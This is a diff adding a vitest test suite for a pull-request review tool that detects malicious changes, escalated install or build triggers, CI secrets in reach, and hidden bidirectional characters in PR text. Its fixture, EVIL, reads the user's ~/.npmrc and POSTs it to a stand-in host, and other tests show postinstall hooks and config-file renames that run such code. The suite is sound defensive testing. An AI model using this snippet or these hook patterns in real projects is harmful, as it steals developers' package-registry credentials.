@@ -1,0 +1,110 @@
+import { describe, expect, it } from "vitest";
+import { reviewChange, rulesIn } from "./setting.ts";
+
+const EVIL = `
+const { readFileSync } = require("fs");
+const os = require("os");
+fetch("https://collect.example.invalid/a", { method: "POST", body: readFileSync(os.homedir() + "/.npmrc") });
+`;
+const MANIFEST = (scripts: Record<string, string>): string =>
+  JSON.stringify({ name: "example", version: "1.0.0", scripts }, null, 2);
+
+describe("what the base had already", () => {
+  it("is not the change's: an unchanged file has no finding", async () => {
+    const review = await reviewChange({ "a.js": EVIL }, { "a.js": EVIL, "README.md": "more" });
+    expect(review.findings).toEqual([]);
+  });
+
+  it("is not the change's when lines only move", async () => {
+    const review = await reviewChange({ "a.js": EVIL }, { "a.js": `// a comment\n\n${EVIL}` });
+    expect(review.findings).toEqual([]);
+  });
+
+  it("is not the change's when the file is only renamed", async () => {
+    const review = await reviewChange({ "a.js": EVIL }, { "lib/a.js": EVIL });
+    expect(review.findings).toEqual([]);
+  });
+
+  it("counts again when there is more of it than before", async () => {
+    const review = await reviewChange({ "a.js": EVIL }, { "a.js": `${EVIL}\n{${EVIL}}` });
+    expect(rulesIn(review)).toContain("credentials/read-and-send");
+  });
+
+  it("counts when the destination changes", async () => {
+    const moved = EVIL.replace("collect.", "other.");
+    const review = await reviewChange({ "a.js": EVIL }, { "a.js": moved });
+    expect(review.verdict).toBe("malicious");
+    expect(review.findings[0]?.change).toBe("added");
+  });
+});
+
+describe("a chain with one new link", () => {
+  it("counts when a manifest starts an old file on install", async () => {
+    const base = { "tools/a.js": EVIL, "package.json": MANIFEST({ test: "true" }) };
+    const head = {
+      ...base,
+      "package.json": MANIFEST({ test: "true", postinstall: "node tools/a.js" }),
+    };
+    const review = await reviewChange(base, head);
+    expect(review.verdict).toBe("malicious");
+    const [worst] = review.findings;
+    expect(worst).toMatchObject({ path: "tools/a.js", change: "escalated", triggers: ["install"] });
+    expect(review.summary).toContain("tools/a.js");
+    expect(review.summary).toContain("on install");
+  });
+
+  it("counts when a rename puts an old file where a tool loads it", async () => {
+    const review = await reviewChange({ "notes/a.js": EVIL }, { "vite.config.js": EVIL });
+    expect(review.findings[0]).toMatchObject({ change: "escalated", triggers: ["build"] });
+  });
+
+  it("is followed through unchanged files to the one that changed", async () => {
+    const base = {
+      "package.json": MANIFEST({ postinstall: "node scripts/start.js" }),
+      "scripts/start.js": 'require("./middle.js");',
+      "scripts/middle.js": 'require("../lib/end.js");',
+      "lib/end.js": "module.exports = 1;",
+    };
+    const review = await reviewChange(base, { ...base, "lib/end.js": EVIL });
+    expect(review.findings[0]).toMatchObject({ path: "lib/end.js", triggers: ["install"] });
+    expect(review.executions).toContainEqual(
+      expect.objectContaining({ path: "lib/end.js", trigger: "install", new: false }),
+    );
+  });
+
+  it("names the secrets that come into reach of a script of an unchanged workflow", async () => {
+    const workflow = [
+      "on: push",
+      "jobs:",
+      "  a:",
+      "    runs-on: ubuntu-latest",
+      "    steps:",
+      "      - run: sh scripts/ci.sh",
+      "        env:",
+      "          TOKEN: ${{ secrets.PUBLISH_TOKEN }}",
+    ].join("\n");
+    const base = { ".github/workflows/a.yml": workflow, "scripts/ci.sh": "echo one\n" };
+    const review = await reviewChange(base, { ...base, "scripts/ci.sh": "echo two\n" });
+    expect(review.verdict).toBe("clean");
+    const run = review.executions.find((each) => each.path === "scripts/ci.sh");
+    expect(run?.trigger).toBe("ci-secrets");
+    expect(run?.secrets).toContain("PUBLISH_TOKEN");
+  });
+});
+
+describe("the text around a change", () => {
+  it.each(["title", "body", "branch"] as const)(
+    "is searched for hidden characters: %s",
+    async (part) => {
+      const text = { [part]: "fix\u202e\u2066 this" };
+      const review = await reviewChange({}, { "a.md": "text" }, { text });
+      expect(review.findings.map((finding) => finding.path)).toEqual([`(${part})`]);
+    },
+  );
+
+  it("is searched in commit messages", async () => {
+    const text = { commitMessages: ["fine", "fix\u202e\u2066 this"] };
+    const review = await reviewChange({}, { "a.md": "text" }, { text });
+    expect(review.findings.map((finding) => finding.path)).toEqual(["(commit)"]);
+  });
+});
